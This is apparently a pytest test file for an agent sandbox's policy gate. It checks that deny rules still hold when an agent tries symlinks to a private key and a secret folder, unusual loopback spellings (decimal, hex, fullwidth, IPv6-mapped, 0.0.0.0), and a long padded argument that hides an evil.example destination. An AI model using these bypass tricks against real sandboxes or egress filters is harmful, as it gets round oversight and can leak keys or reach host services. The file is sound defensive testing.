"""Issue 31 §1-§3 from inside a real agent (namespace fence, its broker
socket): machine rules decide on what the call will really touch.

- A workdir link defeats no path rule: `notes.txt -> server.pem` under a
  rule naming read_file and ".pem", and the same through read_files and a
  linked folder under list_dir with a `call.kind == "read"` rule (before:
  the key and the listing came back; seen failing).
- One `127.0.0.1`/`localhost` rule matches every spelling of loopback for
  http_get and http_post, and `call.ip.loopback` holds whatever the name
  (before: 2130706433, 127.1, 0x7f000001, localhost., fullwidth localhost
  and [::ffff:127.0.0.1] fell through and reached the bed's server; seen
  failing). A blueprint tool with `sends_data` declaring its URL argument is
  matched the same way.
- A blueprint tool's target is its whole command line: a long first
  argument no longer hides the destination from a deny rule (before: cut at
  1,000 characters and the tool ran; seen failing).

The agent loop and helpers are test_gate_bed.py's."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator

import pytest
from loop_agent import lay_out, start_detached
from test_gate_bed import Agent, audit, lev
from testbed import Testbed

pytestmark = pytest.mark.testbed

PORT = 18451

BLUEPRINT = """
[agent]
name = "facts"
command = ["sh", "loop.sh"]

[tools.fetch]
description = "fetch a URL with curl"
argv = ["curl", "-s", "--max-time", "5", "--", "{url}"]
sends_data = true

[tools.fetch.arguments]
required = ["url"]

[tools.fetch.arguments.properties.url]
type = "string"
format = "url"

[tools.send]
description = "send a note to a destination"
argv = ["sh", "-c", "echo sent >> sent.txt", "send", "{note}", "{dest}"]
sends_data = true

[tools.send.arguments]
required = ["note", "dest"]

[tools.send.arguments.properties.note]
type = "string"

[tools.send.arguments.properties.dest]
type = "string"
"""

CONFIG = """
[sandbox]
kind = "namespace"

[taint]
enabled = true
allow_private_addresses = true

[[rules]]
name = "no-pem"
when = 'call.tool == "read_file" && call.target.endsWith(".pem")'
decision = "deny"
reason = "key files stay on the host"

[[rules]]
name = "no-pem-any-read"
when = 'call.kind == "read" && call.target.endsWith(".pem")'
decision = "deny"
reason = "key files stay on the host, whichever tool reads"

[[rules]]
name = "no-secret-dir"
when = 'call.kind == "read" && call.target.contains("/secret")'
decision = "deny"
reason = "the secret folder stays shut"

[[rules]]
name = "no-loopback"
when = '''(call.kind == "net" || call.tool == "fetch")
        && (call.host == "127.0.0.1" || call.host == "localhost")'''
decision = "deny"
reason = "not the host's own services"

[[rules]]
name = "no-loopback-address"
when = 'call.kind == "net" && call.ip.loopback'
decision = "deny"
reason = "not an address of the host itself"

[[rules]]
name = "no-evil"
when = 'call.tool == "send" && call.target.contains("evil.example")'
decision = "deny"
reason = "not to evil.example"
"""

SERVER = f"""
import http.server

class H(http.server.BaseHTTPRequestHandler):
    def _hit(self):
        with open("/root/fhits.log", "a") as f:
            f.write(self.path + "\\n")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"hello")

    do_GET = do_POST = _hit

    def log_message(self, *args):
        pass

http.server.HTTPServer(("127.0.0.1", {PORT}), H).serve_forever()
"""

SPELLINGS = ["127.0.0.1", "2130706433", "127.1", "0x7f000001", "localhost.",
             "\uff4cocalhost", "[::ffff:127.0.0.1]", "LOCALHOST"]


def hits(bed: Testbed) -> list[str]:
    return bed.run(["cat", "/root/fhits.log"], check=False).stdout.splitlines()


@pytest.fixture(scope="module")
def bed(testbed: Testbed) -> Iterator[Testbed]:
    bed = testbed
    lay_out(bed, "fw", "fbp", BLUEPRINT, {
        "fw/server.pem": "-----BEGIN PRIVATE KEY-----\nFACTKEY\n",
        "fw/small.txt": "small\n",
        "fw/secret/plans.txt": "SECRETPLANS\n",
    })
    home = bed.users["alice"].home
    bed.run(f"cd {home}/fw && ln -s server.pem notes.txt && ln -s secret secdir",
            user="alice")
    old_config = bed.run(["cat", "/etc/leviath/config.toml"], check=False).stdout
    bed.write_file("/etc/leviath/config.toml", CONFIG)
    bed.write_file("/root/fsrv.py", SERVER)
    bed.run(["rm", "-f", "/root/fhits.log"])
    server = subprocess.Popen(bed.command(["python3", "/root/fsrv.py"]))
    bed.run(["systemctl", "restart", "leviathd"])
    yield bed
    server.kill()
    server.wait()
    bed.write_file("/etc/leviath/config.toml", old_config)
    bed.run(["systemctl", "restart", "leviathd"])


@pytest.fixture
def agent(bed: Testbed) -> Iterator[Agent]:
    a = Agent(bed, "alice", start_detached(bed, "fbp", "fw"),
              f"{bed.users['alice'].home}/fw")
    yield a
    lev(bed, "alice", "stop", a.id, check=False)


def test_a_link_in_the_workdir_to_a_pem_file_is_caught_by_a_read_file_rule(
    agent: Agent,
) -> None:
    rc, out, err = agent.call("lev tool read_file notes.txt")
    assert rc != 0 and "FACTKEY" not in out + err, out
    assert "rule:machine:no-pem" in err
    rc, out, err = agent.call("lev tool read_file small.txt")
    assert rc == 0 and out == "small\n", err


def test_read_files_and_list_dir_through_links_meet_a_kind_rule(
    bed: Testbed, agent: Agent,
) -> None:
    rc, out, err = agent.call("lev tool read_files small.txt notes.txt")
    assert rc != 0 and "FACTKEY" not in out + err, out
    assert "rule:machine:no-pem-any-read" in err
    rc, out, err = agent.call("lev tool list_dir secdir")
    assert rc != 0 and "plans.txt" not in out + err, out
    assert "rule:machine:no-secret-dir" in err
    rc, out, err = agent.call("lev tool read_file secdir/plans.txt")
    assert rc != 0 and "SECRETPLANS" not in out + err, out
    records = [r for r in audit(bed, agent.id) if r.get("LEVIATH_TOOL") == "list_dir"]
    # The audit names the folder really listed, not the link.
    assert records and records[-1]["LEVIATH_TARGET"].endswith("/fw/secret"), records


@pytest.mark.parametrize("tool", ["http_get", "http_post"])
def test_one_loopback_rule_matches_every_spelling(
    bed: Testbed, agent: Agent, tool: str,
) -> None:
    bed.run(["rm", "-f", "/root/fhits.log"])
    for spelling in SPELLINGS:
        url = f"http://{spelling}:{PORT}/{tool}-{len(spelling)}"
        body = " body" if tool == "http_post" else ""
        rc, out, err = agent.call(f"lev tool {tool} '{url}'{body}")
        assert rc != 0 and "hello" not in out, (spelling, out, err)
        assert "rule:machine:no-loopback" in err, (spelling, err)
    assert hits(bed) == []


def test_the_dialled_address_is_judged_whatever_the_name(bed: Testbed, agent: Agent) -> None:
    """A name the rules do not list that resolves to loopback: the address
    rule (`call.ip.loopback`) holds."""
    bed.run(["rm", "-f", "/root/fhits.log"])
    bed.run("grep -q 'facts-loop.test' /etc/hosts || "
            "echo '127.0.0.1 facts-loop.test' >> /etc/hosts")
    rc, out, err = agent.call(f"lev tool http_get http://facts-loop.test:{PORT}/named")
    assert rc != 0 and "rule:machine:no-loopback-address" in err, (out, err)
    assert hits(bed) == []


def test_a_sends_data_blueprint_tool_declaring_its_url_meets_the_host_rule(
    bed: Testbed, agent: Agent,
) -> None:
    bed.run(["rm", "-f", "/root/fhits.log"])
    for spelling in ("2130706433", "127.1", "[::ffff:127.0.0.1]"):
        rc, out, err = agent.call(
            f"lev tool fetch 'http://{spelling}:{PORT}/tool-{len(spelling)}'")
        assert rc != 0 and "rule:machine:no-loopback" in err, (spelling, out, err)
    assert hits(bed) == []


def test_a_long_first_argument_does_not_hide_the_destination(
    bed: Testbed, agent: Agent,
) -> None:
    note = "x" * 1500
    rc, out, err = agent.call(f"lev tool send {note} evil.example")
    assert rc != 0 and "rule:machine:no-evil" in err, (out, err)
    assert bed.run(["test", "-e", f"{agent.workdir}/sent.txt"], check=False).returncode != 0
    rc, out, err = agent.call(f"lev tool send {note} good.example")
    assert rc == 0, err


def test_the_unspecified_addresses_are_judged_as_the_host(bed: Testbed, agent: Agent) -> None:
    """Issue 48 §4: dialling 0.0.0.0 (or ::) reaches the host's own
    services, so every spelling of it, and a name resolving to it, is
    `call.ip.loopback` (before: each reached the bed's server past the
    address rule; seen failing)."""
    bed.run(["rm", "-f", "/root/fhits.log"])
    bed.run("grep -q 'facts-zero.test' /etc/hosts || "
            "echo '0.0.0.0 facts-zero.test' >> /etc/hosts")
    for spelling in ("0.0.0.0", "0", "0x0", "[::]", "[::ffff:0.0.0.0]", "facts-zero.test"):
        for tool, body in (("http_get", ""), ("http_post", " body")):
            url = f"http://{spelling}:{PORT}/zero-{tool}"
            rc, out, err = agent.call(f"lev tool {tool} '{url}'{body}")
            assert rc != 0 and "hello" not in out, (spelling, tool, out, err)
            assert "rule:machine:no-loopback-address" in err, (spelling, tool, err)
    assert hits(bed) == []
